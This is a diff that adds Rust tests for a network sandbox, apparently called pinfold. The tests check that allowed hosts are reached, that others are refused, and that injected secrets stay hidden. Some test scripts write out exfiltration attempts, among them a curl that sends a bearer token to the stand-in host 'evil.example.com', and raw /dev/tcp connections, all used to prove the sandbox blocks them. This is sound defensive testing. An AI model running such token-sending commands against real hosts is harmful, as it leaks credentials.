@@ -1,0 +1,192 @@
+//! The network by rules: ordinary programs reach what is allowed and nothing else, and are told what was refused.
+
+use pinfold_tests::{SERVICES, WORLD, WORLD_NEEDS};
+
+use crate::desk::{Call, Desk, lacks};
+
+/// A desk in an internet of its own.
+struct Traveller(Desk);
+
+impl Traveller {
+    /// Nobody, where the internet cannot be made.
+    fn new() -> Option<Self> {
+        if WORLD_NEEDS.iter().any(|program| lacks(program)) {
+            return None;
+        }
+        let desk = Desk::new();
+        desk.write("world/services.py", SERVICES);
+        Some(Self(desk))
+    }
+
+    /// A command line in that internet, in the project.
+    fn call(&self, words: &[&str]) -> Call<'_> {
+        let call = self.0.call("/bin/bash").arguments(["-c", WORLD, "world"]).arguments(words);
+        call.variable("WORLD", self.0.path("world")).variable("FROM", self.0.workspace())
+    }
+
+    /// A script in the sandbox, with flags of `pinfold run`.
+    fn inside(&self, flags: &[&str], script: &str) -> Call<'_> {
+        self.call(&["pinfold", "run"]).arguments(flags).arguments(["--", "/bin/bash", "-c", script])
+    }
+
+    /// Who was reached, line by line.
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.0.path("world/log")).unwrap_or_default()
+    }
+}
+
+#[test]
+fn the_world_of_these_stories_is_there() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "curl -sS http://api.example.com/ && curl -sS https://evil.example.com/ && curl -sS -g 'http://[2606:2800:220:1::34]/'";
+    let text = traveller.call(&["bash", "-c", script]).run().ok();
+    assert_eq!(text, "api says hello\nevil says hello\nsix says hello");
+}
+
+#[test]
+fn an_allowed_host_is_reached_and_another_is_refused() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "curl -sS http://api.example.com/; curl -sS https://api.example.com/; curl -sS -m 5 https://evil.example.com/; test $? -gt 0";
+    let ended = traveller.inside(&["--allow-host", "api.example.com"], script).run();
+    let ended = ended.says("refused: ").says("evil.example.com").says("--allow-host evil.example.com");
+    assert_eq!(ended.ok(), "api says hello\napi says hello");
+    assert!(!traveller.log().contains("evil"), "{}", traveller.log());
+}
+
+#[test]
+fn names_of_version_6_are_reached() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "curl -sS http://six.example.com/; curl -sS -6 http://six.example.com/";
+    let text = traveller.inside(&["--allow-host", "six.example.com"], script).run().ok();
+    assert_eq!(text, "six says hello\nsix says hello");
+}
+
+#[test]
+fn an_address_is_reached_when_a_rule_names_it() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "curl -sS http://93.184.216.34/; curl -sS -m 5 http://93.184.216.35/; test $? -gt 0";
+    let ended = traveller.inside(&["--allow-host", "93.184.216.34"], script).run();
+    assert_eq!(ended.says("--allow-host 93.184.216.35").ok(), "api says hello");
+}
+
+#[test]
+fn python_and_node_need_no_proxy() {
+    let Some(traveller) = Traveller::new() else { return };
+    let python = "/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.example.com/\").read().decode())'";
+    let flags = ["--allow-host", "api.example.com"];
+    assert_eq!(traveller.inside(&flags, python).run().ok(), "api says hello");
+    if lacks("node") {
+        return;
+    }
+    let node = "node -e 'fetch(\"http://api.example.com/\").then(r => r.text()).then(t => console.log(t.trim()))'";
+    assert_eq!(traveller.inside(&flags, node).run().ok(), "api says hello");
+}
+
+#[test]
+fn git_clones_over_https() {
+    let Some(traveller) = Traveller::new() else { return };
+    let desk = &traveller.0;
+    desk.outside(
+        "git clone --quiet --bare . ../../world/repository.git && git -C ../../world/repository.git update-server-info",
+    )
+    .ok();
+    let script = "git clone --quiet https://api.example.com/repository.git cloned && cat cloned/README";
+    assert_eq!(traveller.inside(&["--allow-host", "api.example.com"], script).run().ok(), "a project");
+}
+
+#[test]
+fn any_protocol_passes_on_an_allowed_port() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "exec 3<>/dev/tcp/api.example.com/7; echo hello >&3; read -r line <&3; echo $line; (echo > /dev/tcp/api.example.com/22) 2>/dev/null; true";
+    let ended = traveller.inside(&["--allow-host", "api.example.com:7"], script).run();
+    assert_eq!(ended.says("api.example.com:22").ok(), "hello");
+    assert!(!traveller.log().contains("ssh"), "{}", traveller.log());
+}
+
+#[test]
+fn programs_that_know_proxies_may_use_one() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "curl -sS -x http://127.0.0.1:63128 https://api.example.com/; curl -sS -x http://127.0.0.1:63128 http://api.example.com/
+        curl -sS -x socks5h://127.0.0.1:63128 http://api.example.com/; curl -sS -m 5 -x http://127.0.0.1:63128 https://evil.example.com/; test $? -gt 0";
+    let ended = traveller.inside(&["--allow-host", "api.example.com"], script).run();
+    assert_eq!(ended.says("evil.example.com").ok(), "api says hello\n".repeat(3).trim());
+    assert!(!traveller.log().contains("evil"), "{}", traveller.log());
+}
+
+#[test]
+fn the_runs_own_loopback_is_untouched() {
+    let Some(traveller) = Traveller::new() else { return };
+    let program = "
+import socket, threading
+for family, address in (socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1'):
+    server = socket.create_server((address, 0), family=family)
+    client = socket.create_connection(server.getsockname()[:2])
+    connection, _ = server.accept(); connection.sendall(b'own'); print(client.recv(9).decode())
+try: socket.create_connection(('127.0.0.1', 9), timeout=2)
+except ConnectionRefusedError: print('refused')
+";
+    traveller.0.write("home/project/own.py", program);
+    let text = traveller.inside(&["--network", "rules"], "/usr/bin/python3 own.py").run().ok();
+    assert_eq!(text, "own\nown\nrefused");
+}
+
+#[test]
+fn what_is_no_tcp_is_refused_at_once() {
+    let Some(traveller) = Traveller::new() else { return };
+    let program = "
+import socket, time
+begin = time.monotonic()
+for family, address in (socket.AF_INET, '93.184.216.34'), (socket.AF_INET6, '2606:2800:220:1::34'):
+    client = socket.socket(family, socket.SOCK_DGRAM)
+    try: client.sendto(b'x', (address, 443)); print('sent')
+    except OSError as error: print(error.strerror)
+print('at once' if time.monotonic() - begin < 1 else 'late')
+";
+    traveller.0.write("home/project/udp.py", program);
+    let text = traveller.inside(&["--allow-host", "api.example.com:*"], "/usr/bin/python3 udp.py").run().ok();
+    assert_eq!(text, "Operation not permitted\nOperation not permitted\nat once");
+    assert!(!traveller.log().contains("udp quic"), "{}", traveller.log());
+}
+
+#[test]
+fn a_port_of_the_host_is_let_in_by_name() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script =
+        "curl -sS http://host.pinfold.internal:8080/; curl -sS -m 5 http://host.pinfold.internal:80/; test $? -gt 0";
+    let ended = traveller.inside(&["--host-port", "8080"], script).run();
+    assert_eq!(ended.says("host.pinfold.internal:80").ok(), "loopback says hello");
+}
+
+#[test]
+fn requests_are_judged_where_a_rule_speaks_of_them() {
+    let Some(traveller) = Traveller::new() else { return };
+    let policy = "[network]\nmode = 'rules'\nallow = [{ host = 'api.example.com', methods = ['GET'], paths = ['/public/**'] }]\n";
+    traveller.0.write("home/rules.toml", policy);
+    let script = "curl -sS https://api.example.com/public/a; curl -sS -o /dev/null -w '%{http_code}\\n' https://api.example.com/private
+        curl -sS -o /dev/null -w '%{http_code}\\n' -X POST https://api.example.com/public/a";
+    let ended = traveller.inside(&["--policy", "../rules.toml"], script).run();
+    assert_eq!(ended.says("POST /public/a").ok(), "api says hello\n403\n403");
+    assert!(!traveller.log().contains("private") && !traveller.log().contains("POST"), "{}", traveller.log());
+}
+
+#[test]
+fn a_secret_is_put_in_outside_and_never_seen_inside() {
+    let Some(traveller) = Traveller::new() else { return };
+    let policy = "[network]\nmode = 'rules'\nallow = ['api.example.com', 'evil.example.com']\n[secrets.token]\nfrom = { env = 'TOKEN' }\nhosts = ['api.example.com']\nin = 'header:Authorization'\n";
+    traveller.0.write("home/rules.toml", policy);
+    let script = "echo $TOKEN | cut -c 1-14; curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.example.com/
+        curl -sS -m 5 -H \"Authorization: Bearer $TOKEN\" http://evil.example.com/ > /dev/null 2>&1; true";
+    let call = traveller.inside(&["--policy", "../rules.toml"], script).variable("TOKEN", "s3cr3t-value");
+    let ended = call.run();
+    assert_eq!(ended.text(), "pinfold-token-\napi says hello", "{ended}");
+    assert!(traveller.log().contains("Bearer s3cr3t-value"), "{}", traveller.log());
+    assert!(!traveller.log().contains("evil GET evil.example.com / Bearer"), "{}", traveller.log());
+}
+
+#[test]
+fn a_summary_for_programs_names_what_was_reached_and_refused() {
+    let Some(traveller) = Traveller::new() else { return };
+    let script = "curl -sS http://api.example.com/; curl -sS -m 5 http://evil.example.com/; true";
+    let ended = traveller.inside(&["--json", "--allow-host", "api.example.com"], script).run();
+    ended.says(r#""reached":["api.example.com:80"]"#).says(r#""host":"evil.example.com""#).ok();
+}
